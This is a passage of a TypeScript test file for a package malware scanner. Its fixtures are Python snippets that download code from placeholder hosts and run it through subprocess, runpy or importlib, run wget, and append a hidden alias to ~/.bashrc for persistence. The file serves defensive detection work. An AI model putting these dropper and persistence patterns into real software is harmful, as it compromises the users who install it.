    'import os, requests\nURL = os.getenv("API_URL", "https://files.example/stage2.py")\ndef get():\n    return requests.get(URL).text\n',
  );
  assert.equal(ruleOf(hidden, 'egress-network-call')?.destination?.url, 'https://files.example/stage2.py');
  const environ = findings(
    'import os, requests\ndef get():\n    return requests.get(os.environ.get("U", "http://192.0.2.4/x"))\n',
  );
  assert.equal(ruleOf(environ, 'egress-network-call')?.destination?.host, '192.0.2.4');
});

test('Python code fetched in one function and the interpreter started on a script named at run time is a dropper', async () => {
  const fetchAndRun = {
    'pkg/core.py': [
      'import os, sys, site, subprocess, requests',
      'def _fetch():',
      '    code = requests.get("https://files.example/u/raw/main/helper.py").text',
      '    path = os.path.join(site.getsitepackages()[0], os.getenv("N", ".helper.py"))',
      '    open(path, "w").write(code)',
      '    return path',
      'def run(data):',
      '    subprocess.Popen([sys.executable, _fetch(), data], stdout=subprocess.DEVNULL)',
    ].join('\n'),
  };
  const dropped = await analyseTarget(fetchAndRun);
  assert.ok(
    dropped.reasons.some((reason) => /^downloads Python code .* starts the interpreter/.test(reason)),
    dropped.reasons.join(' | '),
  );
  assert.equal(dropped.risk, 'high');
  // a .py URL that is a server's CGI script answers, it is not code fetched
  const cgi = await analyseTarget({
    'pkg/core.py': fetchAndRun['pkg/core.py'].replace('u/raw/main/helper.py', 'cgi-bin/assign.py'),
  });
  assert.ok(!cgi.reasons.some((reason) => /^downloads Python code/.test(reason)), cgi.reasons.join(' | '));
  // a script the package names itself, or a .py fetched and never run, is not that join
  const named = await analyseTarget({
    'pkg/core.py':
      'import sys, subprocess, requests\ndef get():\n    return requests.get("https://files.example/u/raw/main/helper.py").text\ndef run():\n    subprocess.run([sys.executable, "-m", "pkg.tool"])\n',
  });
  assert.ok(!named.reasons.some((reason) => /^downloads Python code/.test(reason)), named.reasons.join(' | '));
});

test("lines of ~/.bashrc read, edited and written back by a function that also downloads are a dropper's persistence", () => {
  const source = (download: string) =>
    [
      'import os',
      'def install():',
      '    rc = os.path.expanduser("~/.bashrc")',
      '    lines = open(rc).readlines()',
      '    lines.append("alias ls=\'python ~/.cache/.l.py\'\\n")',
      '    with open(rc, "w") as f:',
      '        f.writelines(lines)',
      download,
    ].join('\n');
  const dropper = findings(source('    os.system("wget -O ~/.cache/.l.py https://files.example/l.txt")'));
  assert.equal(ruleOf(dropper, 'persistence')?.severity, 'high');
  const editor = findings(source('    print("done")'));
  assert.equal(ruleOf(editor, 'persistence')?.severity, 'low', "an editor of the user's start-up file, when called");
});

test('a downloaded Python file run in-process (runpy, importlib file loaders) is download-execute', () => {
  const viaRunpy = findings(
    'import urllib.request, runpy, tempfile, os\np = os.path.join(tempfile.gettempdir(), "u.py")\nurllib.request.urlretrieve("https://cdn.example/u.py", p)\nrunpy.run_path(p)\n',
    'demo/__init__.py',
  );
  assert.equal(ruleOf(viaRunpy, 'download-execute')?.severity, 'critical');
  const viaImportlib = findings(
    [
      'import importlib.util, requests',
      'def update():',
      '    data = requests.get("https://cdn.example/m.py").text',
      '    with open("/tmp/m.py", "w") as f:',
      '        f.write(data)',
      '    spec = importlib.util.spec_from_file_location("m", "/tmp/m.py")',
      '    spec.loader.exec_module(importlib.util.module_from_spec(spec))',
      '',
    ].join('\n'),
  );
  assert.equal(ruleOf(viaImportlib, 'download-execute')?.severity, 'high');
  const localPlugin = findings(
    'import importlib.util\ndef load(path):\n    spec = importlib.util.spec_from_file_location("plugin", path)\n    return importlib.util.module_from_spec(spec)\n',
  );
  assert.equal(ruleOf(localPlugin, 'download-execute'), undefined, 'a plugin loader given a path is not a dropper');
});
